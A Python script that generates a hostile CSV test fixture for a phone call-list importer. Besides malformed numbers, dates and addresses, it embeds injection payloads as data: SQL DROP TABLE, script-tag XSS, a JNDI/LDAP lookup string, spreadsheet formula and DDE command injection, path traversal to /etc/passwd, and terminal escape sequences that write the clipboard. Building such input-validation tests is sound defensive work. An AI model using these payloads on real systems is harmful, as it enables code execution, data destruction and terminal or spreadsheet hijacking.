"""Writes ``sample_lists/hostile.csv`` anew: ``python tools/make_hostile_list.py [FOLDER]``.

Everything that was ever found to be wrong with a call list, and everything that somebody could put into one to do harm.
The file is committed; a test makes it again, and reads it. Only fictional numbers (NPA-555-01xx) get through.
"""

from __future__ import annotations

import csv
import io
import sys
from collections.abc import Iterable, Sequence
from pathlib import Path

BAD = "212 555 0153"
"""The number of rows that are rejected for something else."""

HEADER = (
    "expected", "phone", "name", "timezone", "latitude", "longitude", "zip", "state", "consent", "consent date",
    "consent source", "last purchase", "last inquiry", "country", "note",
)  # fmt: skip

NAMES = (
    ("[/bold][red on white]Ann[/]", "console markup"),
    ("[@click=app.quit]Click me[/]", "console markup with an action"),
    ("<script>alert(1)</script>", "HTML"),
    ("{{7*7}} ${jndi:ldap://example.invalid/a}", "templates"),
    ("%s%s%n {0} {name}", "format strings"),
    ("Robert'); DROP TABLE contacts;--", "SQL"),
    ("../../etc/passwd", "a path"),
    ("\x1b]52;c;ZXZpbA==\x07Carla", "writes to the clipboard (OSC 52)"),
    ("\x1b[2J\x1b[H\x1b[31mDan", "clears the screen"),
    ("\x1b]0;owned\x1b\\Eve", "sets the window title"),
    ("\x9b31mFay\x90q\x9c", "escape sequences in one byte (C1)"),
    ("Gus\x07\x08\x08\x08\x7f", "bell, backspaces, delete"),
    ("Hal\x00Hal", "NUL"),
    ('=HYPERLINK("http://example.invalid","Ida")', "formula"),
    ("+1+1|' /C calc'!A0", "formula with DDE"),
    ("-2+3", "formula"),
    ("@SUM(A1:A9)", "formula"),
    ("\t=1+1", "formula behind a tab"),
    ("＝1+1", "formula with a full-width sign"),
    ("Jo\u202e4310-555 )212(", "right-to-left override"),
    ("\u2066Kim\u2069 \u200f\u200eLi", "bidi isolates and marks"),
    ("L" + "\u0335\u0321\u0322\u0327\u0328\u0334" * 8 + "iz", "combining marks without end"),
    ("\u0301\u0301\u0301", "combining marks over nothing"),
    ("Max" + "\u200d" * 50 + "\u200b\ufeff\u2060", "joiners and zero-width spaces"),
    ("Ned " * 2500, "10 kB of name"),
    ("👨‍👩‍👧‍👦 🏳️‍🌈 🇺🇸", "emoji of several characters"),
    ("王小明 محمد ยายี", "wide letters, right to left, marks"),
    ('Olive "Ollie" O\'Hara, Jr.; | x', "quotes and every delimiter"),
    ("Pat\nQuinn\r\nRoe", "line breaks"),
    ("Sam\u2028Sue\u0085Tom", "other line breaks"),
    ("", "no name"),
    (" \u00a0\u3000 ", "a name of spaces"),
    ("\U000e0041\U000e0042Uma\ue000\ufff9", "tags, private use, annotations"),
)

NUMBERS = (
    ("２１２５５５０１４３", "full-width digits"),
    ("٢١٢٥٥٥٠١٤٤", "Arabic digits"),
    ("(212) 555-0145 ext. 12", "an extension"),
    ("212.555.0146x9", "an extension"),
    ("tel:+1-212-555-0147", "a tel: URI"),
    ("212\u00a0555\u20110148", "no-break space and hyphen"),
    ("\u202d2125550149\u202c", "wrapped in bidi marks by an address book"),
    ("'2125550150", "a spreadsheet's apostrophe"),
    ("2125550151.0", "through a numeric column"),
    ("Evenings: 212 555 0152", "a word before it"),
)

REJECTS: tuple[tuple[str, str, dict[str, str], str], ...] = (
    ("no_number", "", {}, "no number"),
    ("no_number", "n/a", {}, "no number, in words"),
    ("not_a_number", "call me", {}, "no number at all"),
    ("not_a_number", "2.125550153e+09", {}, "a spreadsheet's rounding"),
    ("not_a_number", "2.12556E+09", {}, "a spreadsheet's rounding, digits lost"),
    ("not_a_number", "########", {}, "a column that was too narrow"),
    ("not_a_number", "#REF!", {}, "a spreadsheet's error"),
    ("not_a_number", "212 555 HOME", {}, "letters"),
    ("not_a_number", "212 555 0153 or 212 555 0154", {}, "two numbers"),
    ("not_a_number", "=cmd|' /C calc'!A0", {}, "a formula"),
    ("not_a_number", "\x1b]52;c;ZXZpbA==\x07", {}, "an escape sequence"),
    ("invalid_number", "555-0153", {}, "no area code"),
    ("invalid_number", "212 555 015", {}, "too short"),
    ("invalid_number", "2125550153" * 3, {}, "too long"),
    ("invalid_number", "(000) 555-0153", {}, "no such area code"),
    ("invalid_number", "+999 555 0153", {}, "no such country"),
    ("not_callable", "800-555-0199", {}, "toll-free"),
    ("not_callable", "900-555-0153", {}, "premium rate"),
    ("not_callable", "500-555-0153", {}, "a personal number"),
    ("not_callable", BAD, {"zip": "09012"}, "military post"),
    ("not_callable", BAD, {"state": "AE"}, "military post"),
    ("not_callable", BAD, {"timezone": "Europe/Berlin"}, "a country without rules"),
    ("bad_zone", BAD, {"timezone": "America/New_Yrok"}, "a slip"),
    ("bad_zone", BAD, {"timezone": "EST"}, "an abbreviation"),
    ("bad_zone", BAD, {"timezone": "Mars/Olympus_Mons"}, "no zone of this planet"),
    ("bad_zone", BAD, {"timezone": "../../etc/localtime"}, "a path"),
    ("not_callable", "+1 212 555 0153", {"country": "Mexico"}, "an address in a country without rules"),
    ("bad_country", BAD, {"country": "Mexcio"}, "a country with a slip"),
    ("bad_state", BAD, {"state": "Flordia"}, "a state with a slip"),
    ("bad_state", BAD, {"state": "Jalisco"}, "a state of a country without rules"),
    ("bad_coordinates", BAD, {"latitude": "91", "longitude": "0"}, "beyond the pole"),
    ("bad_coordinates", BAD, {"latitude": "40.7"}, "half a point"),
    ("bad_coordinates", BAD, {"latitude": "nan", "longitude": "inf"}, "no numbers"),
    ("bad_coordinates", BAD, {"latitude": "0", "longitude": "0"}, "nowhere"),
    ("bad_consent", BAD, {"consent": "perhaps"}, "neither yes nor no"),
    ("bad_consent", BAD, {"consent": "=TRUE()"}, "a formula that says yes"),
    ("bad_consent", BAD, {"consent": "\x1b[8mwritten"}, "an escape sequence before a good word"),
    ("bad_consent", "212 555 0176", {"consent": "revoked"}, "a consent that was taken back"),
    ("bad_date", BAD, {"consent": "written", "consent date": "2999-01-01"}, "consent in the future"),
    ("bad_date", BAD, {"consent": "written", "consent date": "2024-02-30"}, "no such day"),
    ("bad_date", BAD, {"consent date": "31/12/2023"}, "no such month: day and month turned"),
    ("bad_date", BAD, {"consent date": "3/4/24"}, "a year of two digits"),
    ("bad_date", BAD, {"consent date": "1970-01-01T00:00:00Z"}, "a program's way of saying nothing"),
    ("bad_date", BAD, {"last purchase": "45721"}, "a spreadsheet's count of days"),
    ("bad_date", BAD, {"last inquiry": "last week"}, "no date"),
)
"""Fault, phone, other cells, and what is wrong. Nearly all of one number, so that a row that gets through is noticed;
a consent that was taken back would reject them all."""

PLACES: tuple[tuple[str, dict[str, str], str], ...] = (
    ("212-555-0160", {"timezone": "america/denver"}, "a zone in lower case"),
    ("212-555-0168", {"zip": "2134", "state": "MA"}, "a ZIP code that lost its zero"),
    ("212-555-0169", {"zip": "02134-1000"}, "a ZIP code with four more digits"),
    ("212-555-0170", {"zip": "2134.0"}, "a ZIP code through a numeric column"),
    ("212-555-0171", {"zip": "98101", "state": "FL"}, "state and ZIP code contradict each other"),
    ("212-555-0172", {"timezone": "America/Chicago", "zip": "98101"}, "zone and ZIP code contradict each other"),
    ("212-555-0174", {"zip": "\x1b[31m#REF!", "state": "[/]"}, "no ZIP code and no state"),
    ("212-555-0175", {"state": "n. y."}, "a state with dots and spaces"),
)
"""Phone, other cells, and what is odd about them."""


def row(expected: str, phone: str, name: str, note: str, **others: str) -> list[str]:
    cells = {"expected": expected, "phone": phone, "name": name, "note": note, **others}
    return [cells.get(column, "") for column in HEADER]


def hostile() -> bytes:
    """The first column says what each row should become."""
    rows: list[list[str]] = [list(HEADER)]
    for position, (name, note) in enumerate(NAMES):
        rows.append(row("contact", f"303-555-01{position + 30:02}", name, note))
    rows += [row("contact", phone, "Vera", note) for phone, note in NUMBERS]
    rows += [row("contact", phone, "Wim", note, **cells) for phone, cells, note in PLACES]
    rows += [
        row("duplicate", "+1 (212) 555-0160", "Wim", "the same number, written otherwise"),
        row("duplicate", "12125550160", "Wim", "once more, and wrong besides", timezone="Mars/Olympus_Mons"),
    ]
    rows += [row(fault, phone, "\x1b[31mXena[/]", note, **cells) for fault, phone, cells, note in REJECTS]
    rows += [
        ["contact", "212-555-0161", "Yan"],
        [*row("contact", "212-555-0162", "Zed", "more cells than columns"), "one", "two"],
        ["wrong_columns"],
        [*row("wrong_columns", "Smith", " John", "a comma without quotation marks", timezone="212-555-0163"), ""],
        [*row("wrong_columns", "212-555-0164", "212-555-0165", "two numbers in a shifted row"), ""],
        row("wrong_columns", BAD, "Abe", "", consent="written")[:9],
        [],
        [""] * len(HEADER),
    ]
    unclosed = b'wrong_columns,212-555-0166,"Zoe,,,,a quotation mark that is never closed\n'
    return csv_text(rows) + unclosed + csv_text([row("contact", "212-555-0167", "Zoe", "is not swallowed")])


def csv_text(rows: Iterable[Sequence[str]]) -> bytes:
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerows(rows)
    return text.getvalue().encode()


def write_all(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "hostile.csv").write_bytes(hostile())


if __name__ == "__main__":
    write_all(Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent.parent / "sample_lists")
